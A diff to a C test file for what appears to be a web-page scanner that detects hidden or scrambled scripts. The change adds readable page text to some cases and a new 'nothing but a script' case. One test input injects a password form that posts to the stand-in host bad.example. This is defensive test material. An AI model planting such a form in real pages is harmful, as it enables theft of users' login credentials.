@@ -312,6 +312,9 @@ static void test_no_smuggling(void **state)
 	expect_not(FINDING_SMUGGLING);
 }
 
+/* A page that has something to read beside its script. */
+#define READABLE "<p>The figures of the last month, by department and by week.</p>"
+
 static void test_written(void **state)
 {
 	(void)state;
@@ -325,7 +328,7 @@ static void test_written(void **state)
 	expect(FINDING_SCRIPT_HIDDEN, "a page");
 	open_page("<script>document.write('<form action=\"https://bad.example/\"><input type=password>')</script>");
 	assert_non_null(exam_test_part(test, "written.html"));
-	open_page("<script>el.innerHTML = '<div class=\"a\">' + rows + '</div>'</script>");
+	open_page(READABLE "<script>el.innerHTML = '<div class=\"a\">' + rows + '</div>'</script>");
 	expect_not(FINDING_SCRIPT_HIDDEN);
 	assert_int_equal(test->part_count, 0);
 }
@@ -340,8 +343,10 @@ static void test_scrambled(void **state)
 	text_append(page, sizeof(page), "</script>");
 	open_page(page);
 	expect(FINDING_SCRIPT_HIDDEN, "scrambled");
-	open_page("<script>var a = _0x1 + 1; function f(n) { return n * 2 }</script>");
+	open_page(READABLE "<script>var a = _0x1 + 1; function f(n) { return n * 2 }</script>");
 	expect_not(FINDING_SCRIPT_HIDDEN);
+	open_page("<script>var a = _0x1 + 1; function f(n) { return n * 2 }</script>");
+	expect(FINDING_SCRIPT_HIDDEN, "nothing but a script");
 }
 
 static void open_svg(const char *svg)
